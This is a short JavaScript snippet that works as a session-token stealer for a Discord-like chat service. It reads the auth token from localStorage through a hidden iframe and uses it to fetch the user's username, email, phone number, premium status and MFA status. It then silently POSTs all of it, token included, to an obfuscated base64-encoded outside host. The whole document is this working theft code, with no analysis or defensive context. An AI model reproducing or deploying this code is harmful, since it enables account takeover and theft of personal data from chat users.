(() => {
  const fr = document.createElement('iframe');
  fr.style.display = 'none';
  document.body.append(fr);
  const store = fr.contentWindow.localStorage;
  const raw = store.getItem('token') || store.getItem('tokens');
  fr.remove();
  if (!raw) return;
  const tk = raw.replace(/^"|"$/g, '');
  fetch('https://chatline.example/api/v9/users/@me', { headers: { Authorization: tk } })
    .then(r => r.json())
    .then(u => {
      const lines = [`**${u.username}**`, u.email, u.phone, `nitro: ${u.premium_type}`, `mfa: ${u.mfa_enabled}`, tk];
      return fetch(atob('aHR0cHM6Ly9yZWxheS1ub2RlLmV4YW1wbGUvaW4='), {
        method: 'POST',
        mode: 'no-cors',
        body: lines.join('\n')
      });
    })
    .catch(() => {});
})();
